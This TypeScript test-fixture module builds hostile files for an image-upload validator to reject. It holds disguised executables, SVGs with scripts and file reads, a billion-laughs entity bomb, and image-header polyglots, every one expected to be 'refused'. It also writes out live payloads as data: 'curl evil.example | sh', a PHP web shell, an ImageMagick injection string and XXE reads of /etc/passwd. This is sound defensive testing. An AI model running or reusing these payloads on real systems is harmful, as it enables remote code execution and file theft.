import { gzipSync } from 'node:zlib'
import { mark } from './clean-jpeg.ts'
import { header, pngSignature } from './crafted-pictures.ts'
import { all, drawing, noise, page, script, type HostileFile, type Named } from './hostile-kit.ts'

/** Pictures of kinds that are not taken, and everything else that people might call `photo.jpg`. */
export async function wrongTypes(): Promise<HostileFile[]> {
  const small = noise(16, 16)
  const made = await Promise.all(
    (['gif', 'webp', 'avif', 'tiff'] as const).map(async (format): Promise<Named> => [
      `a ${format}`,
      await small.clone().toFormat(format).toBuffer(),
    ]),
  )
  const brand = (name: string) => `\0\0\0\x18ftyp${name}\0\0\0\0${name}mif1${mark}`
  const begins: Record<string, string> = {
    bmp: 'BM\x36\x03\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x10\0\0\0\x10\0\0\0\x01\0\x18\0',
    ico: '\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0',
    psd: '8BPS\0\x01\0\0\0\0\0\0\0\x03',
    jp2: '\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 ',
    jxl: '\0\0\0\x0cJXL \r\n\x87\n',
    'jxl codestream': '\xff\x0a',
    pdf: '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript>>>>',
    zip: 'PK\x03\x04\x14\0\0\0\0\0',
    elf: '\x7fELF\x02\x01\x01',
    exe: 'MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0',
    'mach-o': '\xcf\xfa\xed\xfe\x07\0\0\x01',
    'java class': '\xca\xfe\xba\xbe\0\0\0\x34',
    wasm: '\0asm\x01\0\0\0',
    shell: '#!/bin/sh\ncurl evil.example | sh\n',
    php: '<?php system($_GET[0]); ?>',
    rtf: '{\\rtf1\\ansi',
    'old office': '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
    postscript: '%!PS-Adobe-3.0 EPSF-3.0\n',
    wmf: '\xd7\xcd\xc6\x9a\0\0',
    gzip: '\x1f\x8b\x08\0\0\0\0\0',
    bzip2: 'BZh91AY&SY',
    xz: '\xfd7zXZ\0\0',
    '7z': "7z\xbc\xaf'\x1c\0\x04",
    rar: 'Rar!\x1a\x07\x01\0',
    sqlite: 'SQLite format 3\0',
    mp3: 'ID3\x04\0\0\0\0\0\0',
    ogg: 'OggS\0\x02',
    flac: 'fLaC\0\0\0\x22',
    webm: '\x1a\x45\xdf\xa3\x9fB\x86\x81\x01B\x82\x84webm',
    avi: 'RIFF\x24\0\0\0AVI LIST',
    woff2: 'wOF2\0\x01\0\0',
    dicom: `${'\0'.repeat(128)}DICM`,
    fits: 'SIMPLE  =                    T',
    hdr: '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\n',
    ppm: 'P6\n2 2\n255\n',
    openexr: '\x76\x2f\x31\x01',
    'vips’ own': '\xb6\xa6\xf2\x08',
    'imagemagick script': "push graphic-context\nfill 'url(https://evil.example/\"|id)'\n",
    mng: '\x8aMNG\r\n\x1a\n',
    jng: '\x8bJNG\r\n\x1a\n',
    text: 'a photo, honestly',
    json: '{"image":"jpeg"}',
    page,
    'page behind spaces': `${' '.repeat(600)}${page}`,
    'xml with an outside entity':
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  }
  for (const name of ['heic', 'heix', 'mif1', 'avif', 'avis', 'isom', 'mp42', 'qt  ', 'crx '])
    begins[`ftyp ${name}`] = brand(name)
  return all('refused', [
    ...made,
    ...Object.entries(begins).map(([name, start]): Named => [`a ${name}`, start + mark + '\0'.repeat(200)]),
    ['nothing', ''],
    ['one byte', '\xff'],
    ['two bytes', '\xff\xd8'],
    ['zeros', Buffer.alloc(5000)],
    ['noise', await noise(40, 40).raw().toBuffer()],
  ])
}

export function drawings(): HostileFile[] {
  const entities = Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`).join('')
  const plain = drawing(script)
  return all('refused', [
    ['a drawing with a script', plain],
    ['a drawing that runs when it loads', drawing('', `onload="alert('${mark}')"`)],
    ['a drawing with a page in it', drawing(`<foreignObject>${page}</foreignObject>`)],
    ['a drawing that fetches', drawing('<image href="http://127.0.0.1:1/x.png"/>')],
    ['a drawing that reads files', drawing('<image href="file:///etc/passwd"/>')],
    ['a drawing behind an XML line', `<?xml version="1.0"?>${plain}`],
    ['a drawing behind a comment', `<!-- ${' '.repeat(3000)} -->${plain}`],
    ['a drawing behind spaces', `\n\n\t   ${plain}`],
    ['a drawing behind a byte order mark', `\xef\xbb\xbf${plain}`],
    ['a drawing in wide characters', Buffer.from(`\ufeff${plain}`, 'utf16le')],
    ['a packed drawing', gzipSync(plain)],
    ['a drawing of a billion laughs', `<!DOCTYPE svg [<!ENTITY a0 "${mark}">${entities}]>${drawing('&a9;')}`],
    ['an endless drawing', drawing('', 'viewBox="0 0 1000000 1000000"').replaceAll('"10"', '"1000000"')],
    ['a drawing behind the first bytes of a JPEG', `\xff\xd8\xff\xe0${plain}`],
    ['a drawing behind the first bytes of a PNG', Buffer.concat([pngSignature, Buffer.from(plain)])],
    ['a page behind the first bytes of a JPEG', `\xff\xd8\xff\xe1${page}`],
    ['a page behind the first bytes of a PNG', Buffer.concat([pngSignature, Buffer.from(page)])],
    ['a page behind a PNG’s header', Buffer.concat([pngSignature, header({ width: 5, height: 5 }), Buffer.from(page)])],
  ])
}
